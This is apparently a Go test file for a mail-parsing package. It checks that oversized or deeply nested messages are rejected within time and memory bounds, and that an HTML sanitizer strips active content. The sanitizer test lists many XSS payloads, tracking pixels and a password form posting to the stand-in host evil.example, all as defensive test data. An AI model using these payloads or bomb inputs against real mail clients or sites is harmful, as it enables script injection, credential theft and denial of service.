package message

import (
	"errors"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"
)

// Bounds for one hostile mail, wide for a loaded machine and the race detector;
// without a bound in the code the same mails take minutes or gigabytes.
const (
	hostileTime  = 10 * time.Second
	hostileAlloc = 128 << 20
)

// S06, F34: bombs end by a bound, quickly and in little memory.
func TestS06Bombs(t *testing.T) {
	const head = "From: a@example.com\nSubject: bomb\n"
	repeat := func(unit string, bytes int) string { return strings.Repeat(unit, bytes/len(unit)+1) }
	var deep strings.Builder
	deep.WriteString(head)
	for i := range 10_000 {
		fmt.Fprintf(&deep, "Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n", i, i)
	}
	var boundaries strings.Builder // every level of the deepest allowed mail is looked up on every line
	boundaries.WriteString(head)
	for i := range 99 {
		fmt.Fprintf(&boundaries, "Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n", i, i)
	}
	boundaries.WriteString("\n" + repeat("--c\n", 4<<20))
	for _, c := range []struct{ name, raw, reason string }{
		{"10,000 levels", deep.String(), ReasonTooDeep},
		{"200,000 parts", head + "Content-Type: multipart/mixed; boundary=b\n\n" + strings.Repeat("--b\n\nx\n", 200_000), ReasonTooManyParts},
		{"200,000 attachments", head + "Content-Type: multipart/mixed; boundary=b\n\n" + strings.Repeat("--b\nContent-Type: image/png\n\nx\n", 200_000), ReasonTooManyParts},
		{"20 MB header, one line", head + "X: " + repeat("x", 20<<20) + "\n\nbody", ReasonHeaderBytes},
		{"20 MB header, many lines", head + repeat("X: x\n", 20<<20) + "\nbody", ReasonHeaderBytes},
		{"20 MB header, many references", head + "References: " + repeat("<a@b> ", 20<<20) + "\n\nbody", ReasonHeaderBytes},
		{"150 MB", head + "\n" + repeat("x", 150<<20), ReasonTooLarge},
		{"dash lines", boundaries.String(), ""},
		{"addresses", head + "To: " + repeat("a@b.example,", 900<<10) + "\n\nbody", ""},
		{"open quotes", head + "To: " + repeat(`"\`, 900<<10) + "\n\nbody", ""},
		{"open comments", head + "To: " + repeat(`(\`, 900<<10) + "\n\nbody", ""},
		{"open brackets", head + "To: " + repeat(`<"a`, 900<<10) + "\n\nbody", ""},
		{"groups", head + "To: " + repeat(`a:@b`, 900<<10) + "\n\nbody", ""},
		{"commas", head + "To: " + repeat(`a b,`, 900<<10) + "\n\nbody", ""},
		{"open words", head + "Subject: " + repeat("=?a?q?x", 900<<10) + "\n\nbody", ""},
		{"empty words", head + "Subject: " + repeat("=?utf-7?q??=", 900<<10) + "\n\nbody", ""},
		{"tags", head + "Subject: " + repeat("[a] re: ", 900<<10) + "\n\nbody", ""},
		{"parameters", head + "Content-Type: text/plain; " + repeat("a*1*=b;", 900<<10) + "\n\nbody", ""},
		{"unclosed parameters", head + "Content-Type: text/plain; " + repeat(`a="`, 900<<10) + "\n\nbody", ""},
		{"blanks in quoted-printable", head + "Content-Transfer-Encoding: quoted-printable\n\n" + repeat(" ", 4<<20) + "x" + repeat("= ", 4<<20), ""},
		{"escapes in quoted-printable", head + "Content-Transfer-Encoding: quoted-printable\n\n" + repeat("=zz= ", 4<<20), ""},
		{"open tags", head + "Content-Type: text/html\n\n" + repeat("<b><i x=y>", 4<<20), ""},
		{"angle brackets", head + "Content-Type: text/html\n\n" + repeat("<!--<", 4<<20), ""},
		{"empty text parts", head + "Content-Type: multipart/alternative; boundary=b\n\n" + strings.Repeat("--b\nContent-Type: text/html\n\n<p>\n", 9_000), ""},
		{"utf-7", head + "Content-Type: text/plain; charset=utf-7\n\n" + repeat("+A-", 4<<20), ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			raw := []byte(c.raw)
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			start := time.Now()
			m, err := Parse(raw, Limits{})
			Identity(m.Header, raw)
			BaseSubject(m.Header.Subject)
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			if took > hostileTime {
				t.Errorf("took %v", took)
			}
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > hostileAlloc {
				t.Errorf("allocated %d MB", alloc>>20)
			}
			t.Logf("%v, %d KB allocated", took.Round(time.Millisecond), (after.TotalAlloc-before.TotalAlloc)>>10)
			checkClean(t, m)
			var u *Unreadable
			if c.reason == "" && err != nil || c.reason != "" && (!errors.As(err, &u) || u.Reason != c.reason) {
				t.Errorf("error %v, want %q", err, c.reason)
			}
			if m.Header.From[0].Address != "a@example.com" {
				t.Errorf("the header is lost: %+v", m.Header)
			}
		})
	}
}

// S05, S06: cleaning ends quickly and in bounds for markup made to be slow.
func TestS06HTMLBombs(t *testing.T) {
	for _, unit := range []string{"<div>", "<b><i a=b>", "</p>", "<!--", "<a href='http://x.example/' title='", "<svg>", "&#x", "<table><tr><td>", "<p a=1 b=2 c=3 d=4 e=5", "<<<<", "<a href=http://x.example/>", "<font color=red><p>", "<x", "]]>"} {
		in := strings.Repeat(unit, (DefaultLimits.HTMLBytes/16)/len(unit)+1)
		start := time.Now()
		out := SanitizeHTML(in)
		HTMLText(in)
		preview("", in)
		if took := time.Since(start); took > hostileTime {
			t.Errorf("%q repeated took %v", unit, took)
		} else {
			t.Logf("%q: %v, %d KB become %d KB", unit, took.Round(time.Millisecond), len(in)>>10, len(out)>>10)
		}
	}
}

// S05: nothing that runs, loads or submits survives, in any disguise.
func TestS05SanitizeHTML(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script/src=x>`, `<scr<script>ipt>alert(1)</script>`, `<script`, `<<script>alert(1)//<</script>`,
		`<img src=x onerror=alert(1)>`, `<img src="https://t.example/x.gif">`, `<img srcset="https://t.example/x.gif 2x">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="cid:x">`, `<img lowsrc=//t.example/x dynsrc=//t.example/x>`,
		`<body background="https://t.example/x.gif" onload=alert(1)>`, `<table background="https://t.example/x.gif"><tr><td background="//t.example/y">x</table>`,
		`<p style="background:url(https://t.example/x.gif)">x</p>`, `<style>@import url(https://t.example/x.css);</style>`, `<link rel=stylesheet href="https://t.example/x.css">`, `<div style="background-image:\75rl(//t.example/x)">`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" jAvA&#x73;cript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a ping="https://t.example/" href="https://ok.example/">x</a>`,
		`<form action="https://evil.example/"><input name=p type=password><button formaction=//evil.example>go</button></form>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
		`<svg><script>alert(1)</script><image href="https://t.example/x"/></svg>`, `<svg/onload=alert(1)>`, `<math><mtext><img src=x onerror=alert(1)></math>`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script>`,
		`<iframe src="https://evil.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="x.swf"></object><embed src="x.swf"><applet code=x>`, `<video src="//t.example/v" poster="//t.example/p"></video><audio src="//t.example/a">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<xmp><script>alert(1)</script></xmp>`, `<textarea><script>alert(1)</script></textarea>`, `<title><script>alert(1)</script></title>`,
		`<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><?import namespace=t implementation="#default#time2">`, `<p onclick=alert(1) onmouseover="alert(1)">x`, `<details open ontoggle=alert(1)>`, `<isindex action=javascript:alert(1)>`,
		"<img\x00 src=x onerror=alert(1)>", "<scr\x00ipt>alert(1)</scr\x00ipt>", `<a href="//t.example/x">protocol relative</a>`, `<plaintext><script>alert(1)</script>`, `<font color="expression(alert(1))">x</font>`, `<td bgcolor="url(//t.example/x)">`,
		`<link rel=dns-prefetch href=//t.example><link rel=preconnect href=//t.example>`, `<picture><source srcset=//t.example/x></picture>`, `<input type=image src=//t.example/x>`, `<bgsound src=//t.example/x>`, `<frameset><frame src=//t.example></frameset>`,
	} {
		checkSafeHTML(t, in, SanitizeHTML(in))
	}
}

func TestSanitizeHTMLKeepsTheMail(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`<p>Dear <b>Anna</b>,<br>yes &amp; no</p>`:                                               `<p>Dear <b>Anna</b>,<br>yes &amp; no</p>`,
		`<html><head><title>t</title><style>p{}</style></head><body>x`:                           `x`,
		`<img src="https://t.example/x" alt="Logo" width="10">`:                                  `<img alt="Logo" width="10">`,
		`<a href="mailto:a@x.example">a</a>`:                                                     `<a href="mailto:a@x.example" rel="nofollow noreferrer">a</a>`,
		`<table bgcolor="#fff"><tr><td colspan=2 align=center>x`:                                 `<table bgcolor="#fff"><tr><td colspan="2" align="center">x</td></tr></table>`,
		`</div></table>text</p><p>open`:                                                          `text<p>open</p>`,
		`<b><i>wrong</b> order</i>`:                                                              `<b><i>wrong</i></b> order`,
		`<a href="https://x.example/?a=1&b=2">link</a>`:                                          `<a href="https://x.example/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">link</a>`,
		strings.Repeat("<div>", 1000) + "deep" + strings.Repeat("</div>", 1000) + "<b>after</b>": strings.Repeat("<div>", maxOpenElements) + "deep" + strings.Repeat("</div>", maxOpenElements) + "<b>after</b>",
	} {
		equal(t, "sanitized "+in[:min(len(in), 60)], SanitizeHTML(in), want)
	}
}
